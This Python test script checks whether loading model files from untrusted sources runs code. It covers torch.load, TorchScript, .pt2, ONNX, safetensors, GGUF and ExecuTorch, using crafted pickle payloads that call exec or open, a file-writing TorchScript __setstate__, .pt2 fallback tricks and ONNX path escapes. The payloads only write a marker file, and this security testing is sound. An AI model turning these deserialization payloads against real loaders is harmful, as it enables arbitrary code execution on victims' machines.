"""Does opening a file from an untrusted source run code of the file's author? Each format is attacked with the
strongest payloads known for it, every one harmless (it creates a file named PAYLOAD_RAN in this folder or
nothing at all); then the file is opened the way that format is opened, and we look for the marker."""
# Timeout: 300
import io
import json
import logging
import os
import shutil
import pickle
import re
import resource
import struct
import subprocess
import sys
import warnings
import zipfile
from pathlib import Path

warnings.filterwarnings("ignore")  # TorchScript's deprecation notices; torch's notes on storages it rebuilds
# ExecuTorch imports torchao, which logs that its CUDA-only kernels cannot load on this CPU machine and registers
# an Enum the way torch 2.13 deprecates (set before the imports that log it)
logging.getLogger("torchao").setLevel(logging.ERROR)
logging.getLogger("torch.utils._pytree").setLevel(logging.ERROR)

import numpy as np
import onnx
import onnxruntime
import torch
import torch.nn as nn
from executorch.backends.xnnpack.partition.xnnpack_partitioner import XnnpackPartitioner
from executorch.exir import to_edge_transform_and_lower
from executorch.runtime import Runtime
from safetensors.torch import load_file, save_file

# torch.export.load logs its fallback to weights_only=False (security/pt2_fallback.py shows that log)
logging.disable(logging.WARNING)
onnxruntime.set_default_logger_severity(3)  # ONNX Runtime would warn, with a timestamp, about unused initializers
torch.manual_seed(0)
MARKER = "PAYLOAD_RAN"
# The hostile files are made in a folder of their own, removed at the end: none is left lying around.
os.makedirs("attacks", exist_ok=True)
os.chdir("attacks")
model = nn.Sequential(nn.Linear(4, 16), nn.ReLU(), nn.Linear(16, 3)).eval()
x = torch.randn(2, 4)


def attempt(open_) -> tuple[str, bool]:
    """Open a file; return how that went and whether the payload ran (and clean up its marker)."""
    try:
        open_()
        outcome = "opened"
    except Exception as error:  # noqa: BLE001 - refusing the file is a fine outcome here
        message = re.sub(r"\x1b\[[0-9;]*m", "", str(error)).replace(os.getcwd(), ".")  # the same on any machine
        message = re.search(r"WeightsUnpickler error: (.*)", message) or re.search(r"(\S.*)", message)
        outcome = f"refused: {type(error).__name__}: {message.group(1)[:140] if message else ''}"
    ran = os.path.exists(MARKER)
    if ran:
        os.remove(MARKER)
    return outcome, ran


def replace_member(path, suffix, data):
    """Rewrite a zip archive with the member whose name ends in `suffix` replaced by `data`."""
    with zipfile.ZipFile(path) as old:
        members = [(info, old.read(info)) for info in old.infolist()]
    with zipfile.ZipFile(path, "w") as new:
        for info, content in members:
            new.writestr(info, data if info.filename.endswith(suffix) else content)


def read_member(path, suffix):
    with zipfile.ZipFile(path) as archive:
        return next(archive.read(n) for n in archive.namelist() if n.endswith(suffix))


def text(s: str) -> bytes:
    """A pickle BINUNICODE string."""
    return b"X" + struct.pack("<I", len(s.encode())) + s.encode()


# ---------------------------------------------------------------- pickles (torch.save, and what contains them)
# Each one calls open("PAYLOAD_RAN", "w") in another way; any function could stand in its place.
PICKLES = {
    "REDUCE exec": b"\x80\x02c__builtin__\nexec\n" + text(f"open({MARKER!r}, 'w')") + b"\x85R.",
    "INST open (protocol 0)": f"(S'{MARKER}'\nS'w'\nibuiltins\nopen\n.".encode(),
    "_import_dotted_name": (b"\x80\x02ctorch._utils\n_import_dotted_name\n" + text("builtins.open") + b"\x85R"
                            + text(MARKER) + text("w") + b"\x86R."),
}
for name, payload in PICKLES.items():  # the control: each payload is live under plain pickle
    pickle.loads(payload)
    assert os.path.exists(MARKER), name
    os.remove(MARKER)


found = {}
report = []


def allowlist_gadgets() -> int:
    """Call every global torch's weights_only unpickler allows with arguments that name a file; count the loads."""
    from torch._weights_only_unpickler import _get_allowed_globals
    calls = 0
    torch.save({}, "gadget.pt")
    allowed = sorted(_get_allowed_globals())
    report.append(f"the weights_only allowlist of torch {torch.__version__.split('+')[0]}: {len(allowed)} globals")
    for full in allowed:
        module, _, name = full.rpartition(".")
        for args in [(MARKER,), (MARKER, "w"), (MARKER, True), (MARKER, True, 8), (MARKER, 8)]:
            replace_member("gadget.pt", "/data.pkl", b"\x80\x02c" + f"{module}\n{name}\n".encode()
                           + pickle.dumps(args, protocol=2)[2:-1] + b"R.")
            calls += 1
            if attempt(lambda: torch.load("gadget.pt"))[1]:
                raise SystemExit(f"torch.load ran {full}{args}: weights_only=True let a payload through")
    return calls




def record(fmt, value, tried, ran=(), hung=()):
    found[fmt] = {"opening": value, "tried": sorted(tried), "ran": sorted(ran), "hung": sorted(hung)}


# state_dict and checkpoint: torch.load with its default weights_only=True, then with weights_only=False
calls = allowlist_gadgets()
for fmt, content in [("state_dict", {"fc.weight": torch.ones(2)}),
                     ("checkpoint", {"model_state_dict": {"fc.weight": torch.ones(2)}, "epoch": 1})]:
    refused_by_default, ran_without = [], []
    for name, payload in PICKLES.items():
        torch.save(content, f"{fmt}.pt")
        replace_member(f"{fmt}.pt", "/data.pkl", payload)
        outcome, ran = attempt(lambda: torch.load(f"{fmt}.pt"))
        report.append(f"{fmt} / {name} / torch.load(): {outcome}; payload ran: {ran}")
        if not ran:
            refused_by_default.append(name)
        if attempt(lambda: torch.load(f"{fmt}.pt", weights_only=False))[1]:
            ran_without.append(name)
    report.append(f"{fmt} / every allowlisted global with 5 argument lists, {calls} loads / torch.load(): "
                  "no payload ran")
    report.append(f"{fmt} / the same payloads / torch.load(weights_only=False): {len(ran_without)} of "
                  f"{len(PICKLES)} ran")
    value = "default_only" if len(refused_by_default) == len(PICKLES) and ran_without else "runs_code"
    record(fmt, value, [*refused_by_default, f"allowlist ×{calls}"], ran=ran_without)

# whole model: it only loads with weights_only=False, so its pickle runs whatever it names
ran_whole = []
for name, payload in PICKLES.items():
    torch.save(model, "whole_model.pt")
    replace_member("whole_model.pt", "/data.pkl", payload)
    outcome, ran = attempt(lambda: torch.load("whole_model.pt", weights_only=False))
    report.append(f"whole_model / {name} / torch.load(weights_only=False): {outcome}; payload ran: {ran}")
    ran_whole += [name] if ran else []
record("whole_model", "runs_code" if ran_whole else "no_code", PICKLES, ran=ran_whole)


# TorchScript: a __setstate__ method is stored in the archive as TorchScript code and runs inside torch.jit.load.
# With torch ops only (no Python), it creates a file here and writes into it.
class WithSetstate(nn.Module):
    def __init__(self):
        super().__init__()
        self.weight = torch.ones(2)

    def forward(self, x):
        return x + self.weight

    @torch.jit.export
    def __getstate__(self):
        return (self.weight, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, bool]):
        note = "written by __setstate__ inside torch.jit.load\n"
        marker = torch.from_file("PAYLOAD_RAN", shared=True, size=len(note), dtype=torch.uint8)
        marker.copy_(torch.tensor([ord(c) for c in note], dtype=torch.uint8))
        self.weight = state[0] + marker[:0].sum()  # uses the marker, so the compiler keeps it
        self.training = state[1]


ts_ran = []
torch.jit.save(torch.jit.script(WithSetstate()), "setstate.pt")
assert not os.path.exists(MARKER), "saving must not run the payload"
outcome, ran = attempt(lambda: torch.jit.load("setstate.pt"))
report.append(f"torchscript / __setstate__ with torch.from_file / torch.jit.load: {outcome}; payload ran: {ran}")
ts_ran += ["__setstate__ torch.from_file"] if ran else []
torch.jit.save(torch.jit.trace(model, x), "scripted.pt")
for name, payload in PICKLES.items():
    replace_member("scripted.pt", "/data.pkl", payload)  # TorchScript's own pickle
    outcome, ran = attempt(lambda: torch.jit.load("scripted.pt"))
    report.append(f"torchscript / {name} in data.pkl / torch.jit.load: {outcome}; payload ran: {ran}")
    ts_ran += [name] if ran else []
record("torchscript", "runs_code" if ts_ran else "no_code", ["__setstate__ torch.from_file", *PICKLES], ran=ts_ran)

# torch.export (.pt2): three places where torch.export.load unpickles with weights_only=False
pt2_ran = []
torch.export.save(torch.export.export(model, (x,)), "clean.pt2")
as_torch_save = io.BytesIO()
torch.save({"x": torch.ones(1)}, as_torch_save)
evil = as_torch_save.getvalue()
with zipfile.ZipFile(io.BytesIO(evil)) as inner:
    inner_pkl = next(n for n in inner.namelist() if n.endswith("/data.pkl"))
pt2_payload = io.BytesIO()
with zipfile.ZipFile(io.BytesIO(evil)) as inner, zipfile.ZipFile(pt2_payload, "w") as out:
    for info in inner.infolist():
        out.writestr(info, PICKLES["REDUCE exec"] if info.filename == inner_pkl else inner.read(info))
evil = pt2_payload.getvalue()
# 1. sample inputs: weights_only=True fails on the payload, and the loader retries with weights_only=False
Path("sample_inputs.pt2").write_bytes(Path("clean.pt2").read_bytes())
replace_member("sample_inputs.pt2", "/sample_inputs/model.pt", evil)
# 2. a weight marked "use_pickle" in the weights config: loaded with weights_only=False at once
Path("use_pickle.pt2").write_bytes(Path("clean.pt2").read_bytes())
config = json.loads(read_member("use_pickle.pt2", "/model_weights_config.json"))
first = next(iter(config["config"].values()))
first["use_pickle"] = True
replace_member("use_pickle.pt2", "/model_weights_config.json", json.dumps(config).encode())
replace_member("use_pickle.pt2", "/weights/" + first["path_name"], evil)
for name, path in [("sample_inputs fallback", "sample_inputs.pt2"), ("weight use_pickle", "use_pickle.pt2")]:
    outcome, ran = attempt(lambda: torch.export.load(path))
    report.append(f"export_pt2 / {name} / torch.export.load: {outcome}; payload ran: {ran}")
    pt2_ran += [name] if ran else []
record("export_pt2", "runs_code" if pt2_ran else "no_code", ["sample_inputs fallback", "weight use_pickle"],
       ran=pt2_ran)

# ONNX: no pickle. The payload rides as initializer bytes and metadata; external data tries to leave the folder.
onnx_tried, onnx_ran = ["payload as initializer + metadata"], []
torch.onnx.export(model, (x,), "model.onnx", external_data=False, verbose=False)
proto = onnx.load("model.onnx")
proto.graph.initializer.append(onnx.numpy_helper.from_array(np.frombuffer(PICKLES["REDUCE exec"], np.uint8), "p"))
onnx.helper.set_model_props(proto, {"payload": PICKLES["REDUCE exec"].hex()})
onnx.save(proto, "model.onnx")
outcome, ran = attempt(lambda: onnxruntime.InferenceSession("model.onnx"))
report.append(f"onnx / payload as initializer + metadata / InferenceSession: {outcome}; payload ran: {ran}")
onnx_ran += ["payload as initializer + metadata"] if ran else []
Path("secret.bin").write_bytes(np.arange(4, dtype=np.float32).tobytes())  # a file outside the model's folder
os.makedirs("model_dir", exist_ok=True)
for link, target in [("model_dir/link.bin", "../secret.bin"), ("model_dir/up", "..")]:
    if not os.path.lexists(link):
        os.symlink(target, link)


def reads_external(location: str) -> onnx.ModelProto:
    """y = x + w, where w's bytes come from `location`, relative to the model's folder."""
    weight = onnx.TensorProto(name="w", data_type=onnx.TensorProto.FLOAT, dims=[4],
                              data_location=onnx.TensorProto.EXTERNAL)
    weight.external_data.add(key="location", value=location)
    graph = onnx.helper.make_graph(
        [onnx.helper.make_node("Add", ["x", "w"], ["y"])], "escape",
        [onnx.helper.make_tensor_value_info("x", onnx.TensorProto.FLOAT, [4])],
        [onnx.helper.make_tensor_value_info("y", onnx.TensorProto.FLOAT, [4])], [weight])
    return onnx.helper.make_model(graph, opset_imports=[onnx.helper.make_opsetid("", 17)])


for location in ["../secret.bin", os.path.abspath("secret.bin"), "link.bin", "up/secret.bin"]:
    shown = "<absolute path>" if os.path.isabs(location) else location
    Path("model_dir/model.onnx").write_bytes(reads_external(location).SerializeToString())
    onnx_tried.append(f"location={shown}")
    for loader, load in [("onnx.load", lambda: onnx.load("model_dir/model.onnx")),
                         ("InferenceSession", lambda: onnxruntime.InferenceSession("model_dir/model.onnx"))]:
        outcome, _ = attempt(load)
        report.append(f"onnx / location={shown} / {loader}: {outcome}")
        if outcome == "opened":
            onnx_ran.append(f"location={shown}")  # reading a file outside the folder counts as a breach
record("onnx", "runs_code" if onnx_ran else "no_code", onnx_tried, ran=onnx_ran)


# safetensors: an 8-byte header length, a JSON header, raw bytes. Lie in each of them.
def safetensors_file(path, header, data=bytes(16), length=None):
    encoded = json.dumps(header).encode()
    Path(path).write_bytes(struct.pack("<Q", len(encoded) if length is None else length) + encoded + data)


a = {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}
hostile = {
    "header length 2^63": ({"a": a}, bytes(16), 2**63),
    "header length past the end": ({"a": a}, bytes(16), 10**6),
    "overlapping offsets": ({"a": a, "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]}}, bytes(24), None),
    "offsets past the end": ({"a": a, "b": {"dtype": "F32", "shape": [2**40], "data_offsets": [16, 16 + 2**42]}},
                             bytes(16), None),
    "shape 2^96 elements": ({"a": {"dtype": "F32", "shape": [2**32] * 3, "data_offsets": [0, 16]}}, bytes(16), None),
}
st_tried, st_ran = ["payload as tensor + metadata"], []
save_file({"payload": torch.frombuffer(bytearray(PICKLES["REDUCE exec"]), dtype=torch.uint8)}, "model.safetensors",
          metadata={"payload": PICKLES["REDUCE exec"].hex()})
outcome, ran = attempt(lambda: load_file("model.safetensors"))
report.append(f"safetensors / payload as tensor + metadata / load_file: {outcome}; payload ran: {ran}")
st_ran += ["payload as tensor + metadata"] if ran else []
for name, (header, data, length) in hostile.items():
    safetensors_file("hostile.safetensors", header, data, length)
    outcome, ran = attempt(lambda: load_file("hostile.safetensors"))
    report.append(f"safetensors / {name} / load_file: {outcome}")
    st_tried.append(name)
    if outcome == "opened" or ran:
        st_ran.append(name)
record("safetensors", "runs_code" if st_ran else "no_code", st_tried, ran=st_ran)

# GGUF: counts and lengths the reader trusts. Read in a child process with a memory cap and a time limit,
# because a reader that believes a count of 2^62 may loop or allocate without end.
GGUF_READ = "import sys, gguf; r = gguf.GGUFReader(sys.argv[1]); print(len(r.tensors), len(r.fields))"


def gguf_file(path, tensors, kvs, body=b""):
    Path(path).write_bytes(b"GGUF" + struct.pack("<IQQ", 3, tensors, kvs) + body + bytes(64))


def key(name):
    return struct.pack("<Q", len(name)) + name.encode()


absurd = {
    "tensor count 2^63": (2**63, 0, b""),
    "key-value count 2^63": (0, 2**63, b""),
    "string length 2^62": (0, 1, key("a") + struct.pack("<IQ", 8, 2**62)),
    "array length 2^62": (0, 1, key("a") + struct.pack("<IIQ", 9, 4, 2**62)),
    "tensor of 2^80 elements": (1, 0, key("t") + struct.pack("<IQQIQ", 2, 2**40, 2**40, 0, 0)),
}


def capped():
    resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))


gguf_tried, gguf_hung = ["payload as tensor + metadata"], []
for name, (tensors, kvs, body) in absurd.items():
    gguf_file("absurd.gguf", tensors, kvs, body)
    gguf_tried.append(name)
    try:
        child = subprocess.run([sys.executable, "-c", GGUF_READ, "absurd.gguf"], capture_output=True, text=True,
                               timeout=5, preexec_fn=capped)
        last = (child.stderr.strip().splitlines() or child.stdout.strip().splitlines() or [""])[-1]
        outcome = f"read: {last}" if child.returncode == 0 else f"refused: {last[:150]}"
    except subprocess.TimeoutExpired:
        outcome = "still reading after 5 s: killed"
        gguf_hung.append(name)
    report.append(f"gguf / {name} / GGUFReader: {outcome}")
import gguf  # noqa: E402 - imported here so that the children above start without it

writer = gguf.GGUFWriter("model.gguf", arch="demo")
writer.add_string("payload", PICKLES["REDUCE exec"].hex())
writer.add_tensor("payload", np.frombuffer(PICKLES["REDUCE exec"], np.int8).copy())
writer.write_header_to_file(); writer.write_kv_data_to_file(); writer.write_tensors_to_file(); writer.close()
outcome, ran = attempt(lambda: gguf.GGUFReader("model.gguf"))
report.append(f"gguf / payload as tensor + metadata / GGUFReader: {outcome}; payload ran: {ran}")
record("gguf", "runs_code" if ran else ("no_code_hangs" if gguf_hung else "no_code"), gguf_tried,
       ran=["payload as tensor + metadata"] if ran else [], hung=gguf_hung)


# ExecuTorch (.pte): a FlatBuffers program, no pickle. The payload rides as the bytes of a constant tensor the
# model reads; a truncated program tests the loader's bounds checks.
class WithPayload(nn.Module):
    def __init__(self, model, payload):
        super().__init__()
        self.model = model
        self.register_buffer("payload", payload)

    def forward(self, x):
        return self.model(x) + self.payload[:1].to(x.dtype) * 0


payload_tensor = torch.frombuffer(bytearray(PICKLES["REDUCE exec"]), dtype=torch.uint8)
lowered = to_edge_transform_and_lower(torch.export.export(WithPayload(model, payload_tensor.clone()), (x,)),
                                      partitioner=[XnnpackPartitioner()])
program = lowered.to_executorch().buffer
Path("model.pte").write_bytes(program)
assert PICKLES["REDUCE exec"] in program, "model.pte: the payload's bytes were not kept"
Path("truncated.pte").write_bytes(program[: len(program) // 2])
pte_ran = []
for name, path in [("payload as constant", "model.pte"), ("truncated program", "truncated.pte")]:
    outcome, ran = attempt(lambda: Runtime.get().load_program(path).load_method("forward").execute([x]))
    report.append(f"executorch / {name} / load_program + execute: {outcome}; payload ran: {ran}")
    pte_ran += [name] if ran else []
record("executorch", "runs_code" if pte_ran else "no_code", ["payload as constant", "truncated program"],
       ran=pte_ran)

print("\n".join(report))
print(json.dumps(found, indent=1))
os.chdir("..")
shutil.rmtree("attacks")
